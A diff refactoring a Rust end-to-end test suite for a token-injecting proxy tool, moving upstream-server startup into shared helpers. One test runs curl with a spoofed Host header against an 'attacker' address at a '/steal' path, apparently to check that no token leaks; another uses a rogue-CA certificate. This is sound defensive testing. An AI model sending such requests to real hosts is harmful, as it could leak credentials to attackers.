@@ -1,16 +1,15 @@
 //! `robin exec` end to end: real clients (curl, python urllib/requests) with no proxy settings,
 //! inside a captured "pod" namespace, against real HTTPS/HTTP upstreams in another namespace.
 use std::{
-    io::BufRead,
     net::IpAddr,
-    path::{Path, PathBuf},
-    process::{Command, Output, Stdio},
+    path::PathBuf,
+    process::{Command, Output},
     time::Duration,
 };
 
 use robin_e2e::{
-    ChildGuard, Pki, TempDir, Topology, output_within, pod_etc, require_privileges, robin_bin,
-    temp_dir,
+    ChildGuard, Pki, TempDir, Topology, logged_requests, output_within, pod_etc,
+    require_privileges, robin_bin, start_upstream_py, temp_dir,
 };
 
 const RULED: &str = "api.test";
@@ -30,36 +29,6 @@ struct ExecWorld {
     token: PathBuf,
     upstream_log: PathBuf,
     _servers: Vec<ChildGuard>,
-}
-
-fn start_upstream(
-    topo: &Topology,
-    ip: IpAddr,
-    port: u16,
-    tls: Option<(&Path, &Path)>,
-    log: &Path,
-) -> ChildGuard {
-    let script = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("upstream.py");
-    let mut cmd = Command::new("ip");
-    cmd.args(["netns", "exec", topo.upstream.name(), "python3"])
-        .arg(script)
-        .args([ip.to_string(), port.to_string()]);
-    match tls {
-        Some((cert, key)) => cmd.arg(cert).arg(key),
-        None => cmd.arg("plain"),
-    };
-    cmd.arg(log).stdout(Stdio::piped());
-    let mut child = cmd.spawn().expect("starting upstream.py");
-    let mut line = String::new();
-    std::io::BufReader::new(child.stdout.take().expect("stdout"))
-        .read_line(&mut line)
-        .expect("reading upstream readiness");
-    assert_eq!(
-        line.trim(),
-        "ready",
-        "upstream on {ip}:{port} did not start"
-    );
-    ChildGuard(child)
 }
 
 impl ExecWorld {
@@ -98,17 +67,17 @@ impl ExecWorld {
         );
         let upstream_log = dir.path().join("upstream.log");
         let servers = vec![
-            start_upstream(
-                &topo,
+            start_upstream_py(
+                Some(&topo.upstream),
                 up,
                 443,
                 Some((&pki.file("upstream.crt"), &pki.file("upstream.key"))),
                 &upstream_log,
             ),
-            start_upstream(&topo, up, 80, None, &upstream_log),
+            start_upstream_py(Some(&topo.upstream), up, 80, None, &upstream_log),
             // Same names, certificate from a CA nobody trusts.
-            start_upstream(
-                &topo,
+            start_upstream_py(
+                Some(&topo.upstream),
                 up,
                 8443,
                 Some((&pki.file("rogue.crt"), &pki.file("rogue.key"))),
@@ -190,11 +159,7 @@ source = {{ kind = "exchange", grant = "token_exchange", token_endpoint = "https
     }
 
     fn upstream_requests(&self) -> Vec<serde_json::Value> {
-        std::fs::read_to_string(&self.upstream_log)
-            .unwrap_or_default()
-            .lines()
-            .map(|l| serde_json::from_str(l).expect("upstream log line"))
-            .collect()
+        logged_requests(&self.upstream_log)
     }
 }
 
@@ -300,7 +265,7 @@ async fn ruled_host_header_to_another_address_gets_no_token() {
     let w = ExecWorld::new();
     let attacker: IpAddr = w.topo.extra_upstream_ip4[0].into();
     let log = w.dir.path().join("attacker.log");
-    let _attacker = start_upstream(&w.topo, attacker, 80, None, &log);
+    let _attacker = start_upstream_py(Some(&w.topo.upstream), attacker, 80, None, &log);
     let out = stdout(
         &w.exec(&format!(
             "curl -sS -o /dev/null -w '%{{http_code}}' -H 'Host: {RULED}' http://{attacker}/steal"
